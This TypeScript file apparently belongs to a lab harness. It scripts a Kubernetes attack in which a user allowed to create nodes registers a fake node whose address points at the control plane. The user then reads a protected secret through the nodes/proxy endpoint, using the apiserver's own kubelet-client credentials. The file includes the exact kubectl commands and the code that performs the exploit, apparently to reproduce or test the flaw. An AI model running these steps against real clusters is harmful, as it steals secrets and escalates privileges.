import { addresses, ports } from '../addresses';
import { mintLabPki } from '../lab-pki';
import { makeFalseNode } from './false-node';
import { playOf } from './play';
import { plantSecret, readSecret } from './secret-of-pod';

const CLIENT = 'kube-apiserver-kubelet-client';

/**
 * attacker ── nodes/edge-9/proxy ──► apiserver ── as kube-apiserver-kubelet-client ──► apiserver itself
 */
export const nodeAddressInControlPlane = playOf({
  steps: [
    'admin: kubectl create secret generic vault …',
    'admin: kubectl logs web',
    'admin: kubectl create clusterrole node-operator --verb=create,get,list --resource=nodes  # and get nodes/proxy',
    'attacker: kubectl create -f edge-9.yaml  # status.addresses: 10.0.0.10, kubeletEndpoint.Port: 6443',
    'attacker: kubectl get secret vault',
    'attacker: kubectl get --raw /api/v1/nodes/edge-9/proxy/api/v1/namespaces/default/secrets/vault',
  ],
  options: {
    organization: { about: 'O of --kubelet-client-certificate', type: 'string', default: '' },
  },
  async play(stage, { options }) {
    const stock = await mintLabPki({ random: stage.random.for('pki') });
    const client = {
      commonName: CLIENT,
      organizations: options.organization === '' ? [] : [options.organization],
      usages: ['clientAuth'] as const,
    };
    const cluster = await stage.cluster({
      pki: { ...stock, apiserverKubeletClient: await stock.authority.issue(client) },
    });
    const { signal } = stage;
    const secret = await plantSecret(stage, cluster, { name: 'vault', spec: {} });
    await stage.did('admin', 'kubectl create secret generic vault …', 'secret/vault created');
    const logs = await cluster.admin.logs({ namespace: 'default', pod: 'web', container: 'web', signal });
    if (!logs.ok) throw new Error(`kubelets do not let the apiserver do its work: ${logs.words}`);
    await stage.did(
      'admin',
      'kubectl logs web',
      'works: the kubelet knows the apiserver’s client and lets it',
    );

    await using node = await makeFalseNode(stage, cluster, {
      address: addresses.controlPlane,
      port: ports.apiserver,
    });
    const direct = await readSecret(node.client, secret.name, signal);
    if (direct.ok) throw new Error('the operator may read secrets by itself');
    await stage.refused('attacker', `kubectl get secret ${secret.name}`, direct.text);

    const { did, answer } = await node.get(`/api/v1/namespaces/default/secrets/${secret.name}`);
    const { data = {} } = (answer.json() ?? {}) as { data?: Record<string, string> };
    const read = Buffer.from(data['password'] ?? '', 'base64').toString('utf8');
    if (secret.isIn(read))
      await stage.gained('attacker', did, read, 'a secret, as the apiserver’s own client');
    else await stage.refused('attacker', did, answer.words);
  },
});
